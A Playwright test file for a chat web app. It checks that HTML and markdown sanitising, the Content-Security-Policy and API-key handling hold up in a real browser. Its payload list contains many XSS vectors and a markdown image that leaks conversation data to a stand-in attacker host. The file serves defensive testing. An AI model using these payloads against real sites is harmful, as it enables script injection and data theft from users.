/**
 * Hostile content, the Content-Security-Policy, and where API keys go (issue 5), in a real
 * browser: nothing a model writes may run, and a key goes only to its provider.
 */
import { expect, test, type BrowserContext, type Page } from '@playwright/test';
import { addMockProvider, lastReply, mockRequests, MOCK_URL, newConversation, send } from './helpers';

/** Every way we know to make rendered text run script; each sets `window.__xss` or calls alert. */
const PAYLOADS = [
  '<script>window.__xss = 1</script>',
  '<img src=x onerror="window.__xss = 1">',
  '<img src=x onerror=alert(1)>',
  '<svg onload="window.__xss = 1"><circle r="5"/></svg>',
  '<svg><script>window.__xss = 1</script></svg>',
  '<iframe src="javascript:parent.__xss = 1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss = 1</script>"></iframe>',
  '<object data="javascript:window.__xss = 1"></object><embed src="javascript:window.__xss = 1">',
  '[a markdown link](javascript:window.__xss=1)',
  '[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<a href="javascript:window.__xss = 1">an html link</a>',
  '<a href="  JaVaScRiPt:window.__xss = 1">a mixed-case link</a>',
  '<a href="java&#x09;script:window.__xss = 1">an entity-split link</a>',
  '<a href="data:text/html,<script>alert(1)</script>">an html data link</a>',
  '![an image](javascript:window.__xss=1)',
  '![a leak](https://attacker.example/leak.png?conversation=secret)',
  '<details open ontoggle="window.__xss = 1">details</details>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = 1">',
  '<form action="javascript:window.__xss = 1"><button>Submit</button></form>',
  '<style>body { display: none }</style>',
  '<div style="position:fixed;inset:0;background:red">an overlay</div>',
  '<base href="javascript:/">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss = 1">',
  '&lt;script&gt;alert(1)&lt;/script&gt; stays text',
  'invoice\u202Efdp.exe and zero\u200Bwidth [click](jav\u200Bascript:alert(1))',
  '<a href="https://example.com/docs" target="_self">an html https link</a>',
  '[a plain link](https://example.com/docs)',
];

/** Records CSP violations from the first script on: the sanitiser should leave CSP nothing to block. */
async function watchViolations(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const violations: Array<{ directive: string; blocked: string }> = [];
    (window as unknown as { __violations: typeof violations }).__violations = violations;
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
    );
  });
}

async function violations(page: Page): Promise<Array<{ directive: string; blocked: string }>> {
  return page.evaluate(() => (window as unknown as { __violations: Array<{ directive: string; blocked: string }> }).__violations);
}

test.describe('hostile content', () => {
  test('XSS payloads as user input and as model output: nothing runs, links are safe, text stays readable', async ({
    page,
    context,
  }) => {
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await watchViolations(context);
    await addMockProvider(page);
    const id = await newConversation(page, 'mock-echo');

    for (const [index, payload] of PAYLOADS.entries()) {
      await send(page, payload);
      await expect(page.locator('[data-testid="message"][data-role="assistant"]')).toHaveCount(index + 1);
      await expect(lastReply(page)).toHaveAttribute('data-status', 'complete');
    }
    // Links are clicked too: a surviving javascript: href would run now.
    for (const link of await page.locator('[data-testid="message-content"] a').all()) {
      if ((await link.getAttribute('href'))?.startsWith('https:')) continue;
      await link.click();
    }

    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
    expect(new URL(page.url()).pathname).toBe(`/c/${id}`);
    await expect(page.getByTestId('composer')).toBeVisible();

    const report = await page.evaluate(() => {
      const problems: string[] = [];
      const contents = [...document.querySelectorAll('[data-testid="message-content"]')];
      for (const content of contents) {
        for (const element of content.querySelectorAll(
          'script, iframe, object, embed, style, form, svg, math, base, meta, link, details',
        )) {
          problems.push(`<${element.tagName.toLowerCase()}> survived`);
        }
        for (const element of content.querySelectorAll('*')) {
          for (const attribute of element.attributes) {
            if (attribute.name.startsWith('on') || attribute.name === 'style' || attribute.name === 'srcdoc') {
              problems.push(`${attribute.name} on <${element.tagName.toLowerCase()}>`);
            }
          }
        }
        for (const link of content.querySelectorAll('a')) {
          if (link.getAttribute('rel') !== 'noopener noreferrer') problems.push(`link without rel: ${link.outerHTML}`);
          if (link.hasAttribute('href') && !['http:', 'https:'].includes(link.protocol))
            problems.push(`unsafe href: ${link.outerHTML}`);
        }
        for (const image of content.querySelectorAll('img')) {
          if (image.hasAttribute('src') && !['http:', 'https:'].includes(new URL(image.src).protocol))
            problems.push(`unsafe src: ${image.outerHTML}`);
        }
      }
      return { problems, count: contents.length };
    });
    expect(report.problems).toEqual([]);
    expect(report.count).toBe(PAYLOADS.length * 2);

    // Readable: what the user typed is shown exactly as typed; the model's words as text (raw
    // HTML in a reply is shown as the source it is).
    const userTexts = await page
      .locator('[data-testid="message"][data-role="user"] [data-testid="message-content"]')
      .allTextContents();
    expect(userTexts.map((text) => text.trim())).toEqual(PAYLOADS);
    const replies = page.locator('[data-testid="message"][data-role="assistant"] [data-testid="message-content"]');
    await expect(replies.nth(PAYLOADS.indexOf('&lt;script&gt;alert(1)&lt;/script&gt; stays text'))).toHaveText(
      'You said: <script>alert(1)</script> stays text',
    );
    await expect(replies.nth(PAYLOADS.indexOf('[a markdown link](javascript:window.__xss=1)'))).toHaveText(
      'You said: a markdown link',
    );
    await expect(
      replies.nth(PAYLOADS.indexOf('<div style="position:fixed;inset:0;background:red">an overlay</div>')),
    ).toContainText('an overlay');
    await expect(replies.nth(1)).toHaveText('You said: <img src=x onerror="window.__xss = 1">');
    await expect(replies.last()).toHaveText('You said: a plain link');
    expect(await replies.last().locator('a').getAttribute('target')).toBe('_blank');
    await expect(replies.nth(PAYLOADS.length - 3)).toContainText('invoice\u202Efdp.exe');
    // The first message named the conversation: as text.
    await expect(page.locator(`[data-testid="conversation-item"][data-id="${id}"]`)).toHaveText(
      '<script>window.__xss = 1</script>',
    );

    // The sanitiser did the work; the CSP only had the remote image (a leak) left to refuse.
    expect(await violations(page)).toEqual([
      { directive: 'img-src', blocked: 'https://attacker.example/leak.png?conversation=secret' },
    ]);
  });

  test('Content-Security-Policy: present, scripts only from the app, and an injected inline script does not run', async ({
    page,
    context,
  }) => {
    await watchViolations(context);
    await addMockProvider(page);
    const policy = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
    const directives = Object.fromEntries(
      policy
        .split(';')
        .map((part) => part.trim().split(/\s+/))
        .map(([name, ...values]) => [name, values]),
    );
    expect(directives['script-src']).toEqual(["'self'"]);
    expect(directives['object-src']).toEqual(["'none'"]);
    expect(directives['base-uri']).toEqual(["'self'"]);
    expect(directives['worker-src']).toEqual(["'self'"]);
    expect(directives['connect-src']).toEqual(
      expect.arrayContaining(["'self'", 'https:', 'http://localhost:*', 'http://127.0.0.1:*']),
    );
    expect(policy).not.toMatch(/unsafe-inline|unsafe-eval/);

    // A whole session (markdown, highlighted code, settings) needs nothing the policy forbids.
    await newConversation(page, 'mock-markdown');
    await send(page, 'Show me everything');
    await expect(lastReply(page)).toHaveAttribute('data-status', 'complete', { timeout: 20_000 });
    await expect(lastReply(page).locator('pre code .hljs-keyword').first()).toBeVisible();
    expect(await violations(page)).toEqual([]);

    const injected = await page.evaluate(async () => {
      const global = window as unknown as Record<string, unknown>;
      const script = document.createElement('script');
      script.textContent = 'window.__inlineScript = 1';
      document.body.append(script);
      const image = document.createElement('img');
      image.setAttribute('onload', 'window.__inlineHandler = 1');
      image.src = '/icon.svg';
      document.body.append(image);
      await new Promise((resolve) => image.addEventListener('load', resolve));
      return { script: global.__inlineScript, handler: global.__inlineHandler };
    });
    expect(injected).toEqual({ script: undefined, handler: undefined });
    const blocked = (await violations(page)).map((violation) => violation.directive);
    expect(blocked).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr']));
  });
});

interface SeenRequest {
  from: 'page' | 'worker';
  url: string;
  headers: string;
  body: string;
}

/**
 * Watch the SharedWorker's network and console through the DevTools protocol: Playwright's own
 * request events do not cover a SharedWorker, and the worker makes every provider request.
 */
async function watchWorker(page: Page, seen: SeenRequest[], logs: string[]): Promise<void> {
  const session = await page.context().browser()!.newBrowserCDPSession();
  const sharedWorker = async () => {
    const { targetInfos } = (await session.send('Target.getTargets')) as {
      targetInfos: Array<{ type: string; targetId: string }>;
    };
    return targetInfos.find((target) => target.type === 'shared_worker');
  };
  await expect.poll(async () => Boolean(await sharedWorker())).toBe(true);
  const { sessionId } = (await session.send('Target.attachToTarget', {
    targetId: (await sharedWorker())!.targetId,
    flatten: false,
  })) as { sessionId: string };
  session.on('Target.receivedMessageFromTarget', (event: { message: string }) => {
    const message = JSON.parse(event.message) as { method?: string; params?: any };
    if (message.method === 'Network.requestWillBeSent') {
      const request = message.params.request as { url: string; headers: Record<string, string>; postData?: string };
      seen.push({ from: 'worker', url: request.url, headers: JSON.stringify(request.headers), body: request.postData ?? '' });
    }
    if (message.method === 'Runtime.consoleAPICalled') logs.push(JSON.stringify(message.params.args));
  });
  let id = 0;
  for (const method of ['Network.enable', 'Runtime.enable']) {
    await session.send('Target.sendMessageToTarget', { sessionId, message: JSON.stringify({ id: ++id, method, params: {} }) });
  }
}

test.describe('API keys', () => {
  const SECRET = 'sk-parley-e2e-secret-0123456789abcdef';

  test('go only to their provider, never into logs, the page or an export unless ticked', async ({ page, context }) => {
    const seen: SeenRequest[] = [];
    const logs: string[] = [];
    context.on('request', (request) => {
      seen.push({ from: 'page', url: request.url(), headers: JSON.stringify(request.headers()), body: request.postData() ?? '' });
    });
    page.on('console', (message) => logs.push(message.text()));

    await page.goto('/settings');
    await watchWorker(page, seen, logs);
    await page.getByTestId('add-provider').click();
    await page.getByTestId('provider-preset').selectOption('custom');
    await page.getByTestId('provider-name').fill('Keyed mock');
    await page.getByTestId('provider-base-url').fill(MOCK_URL);
    await page.getByTestId('provider-api-key').fill(SECRET);
    await page.getByTestId('provider-save').click();
    await expect(page.getByTestId('provider-item')).toHaveCount(1);
    // Masked where it is shown.
    expect(await page.locator('body').innerText()).not.toContain(SECRET);

    await newConversation(page, 'mock-fast');
    await send(page, 'Hello');
    await expect(lastReply(page)).toHaveAttribute('data-status', 'complete');
    await newConversation(page, 'mock-401');
    await send(page, 'Hello again');
    await expect(lastReply(page)).toHaveAttribute('data-status', 'error');
    expect(await page.locator('body').innerText()).not.toContain(SECRET);

    await page.goto('/settings');
    const exportFile = async () => {
      const download = page.waitForEvent('download');
      await page.getByTestId('export-data').click();
      const stream = await (await download).createReadStream();
      const chunks: Buffer[] = [];
      for await (const chunk of stream) chunks.push(chunk as Buffer);
      return Buffer.concat(chunks).toString('utf8');
    };
    expect(await exportFile()).not.toContain(SECRET);
    await page.getByTestId('export-include-keys').check();
    await expect(page.getByTestId('export-keys-warning')).toBeVisible();
    expect(await exportFile()).toContain(SECRET);

    // The worker's requests were seen; the key went only to the mock, only in the header.
    const withKey = seen.filter((request) => `${request.url}${request.headers}${request.body}`.includes(SECRET));
    expect(withKey.some((request) => request.from === 'worker' && request.url.startsWith(`${MOCK_URL}/chat/completions`))).toBe(
      true,
    );
    for (const request of withKey) {
      expect(request.url.startsWith(`${MOCK_URL}/`), request.url).toBe(true);
      expect(request.headers).toContain(`Bearer ${SECRET}`);
      expect(request.url + request.body).not.toContain(SECRET);
    }
    expect(withKey.filter((request) => request.from === 'page')).toEqual([]);
    const chats = (await mockRequests()).filter(
      (request) => request.path === '/v1/chat/completions' && request.headers.authorization === `Bearer ${SECRET}`,
    );
    expect(chats.length).toBeGreaterThanOrEqual(2);
    expect(logs.join('\n')).not.toContain(SECRET);
  });
});
